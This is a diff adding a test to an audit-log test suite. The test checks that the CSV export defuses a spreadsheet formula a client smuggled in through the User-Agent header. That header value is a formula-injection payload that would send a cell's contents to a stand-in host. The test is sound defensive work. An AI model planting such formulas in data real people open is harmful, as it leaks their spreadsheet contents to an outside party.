@@ -225,3 +225,12 @@ def test_sign_ins_are_recorded_failed_ones_without_the_name_tried(client: TestCl
     assert "agent@example.com" not in repr(audit.columns(stored)) + stored.body.decode()
     kinds = {e["action"] for e in client.get(f"{AUDIT}/entries").json()}
     assert {"api:totp:enrol", "api:session:login"} <= kinds
+
+
+def test_the_csv_export_defuses_formulas_a_client_sent(client: TestClient) -> None:
+    customer_id = _customer(client)
+    headers = {"User-Agent": '=HYPERLINK("http://x.invalid/?"&A1,"x")'}
+    client.get(f"{BASE}/customers/{customer_id}", params={"purpose": "support"}, headers=headers)
+    exported = client.get(f"{AUDIT}/entries.csv", params={"action": "api:customer:read"}).text
+    assert "'=HYPERLINK" in exported
+    assert ",=HYPERLINK" not in exported
